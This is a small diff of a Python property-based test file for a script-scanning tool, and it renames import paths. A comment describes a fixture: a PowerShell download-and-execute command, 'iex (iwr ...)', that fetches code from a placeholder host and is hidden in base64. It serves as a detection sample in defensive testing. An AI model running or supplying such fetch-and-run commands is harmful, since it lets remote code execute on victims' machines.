@@ -4,9 +4,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from clawft.scan.documents import Document
-from clawft.scan.facts import Analysis, Kind, trace
-from clawft.scan.languages import analyse
+from clawft.scanner.facts import Analysis, Document, Kind, trace
+from clawft.scanner.languages import analyse
 
 LANGUAGES = ["shell", "fish", "powershell", "batch", "applescript", "dockerfile", "makefile"]
 # "iex (iwr https://c.example/p)" as UTF-16 in base64.
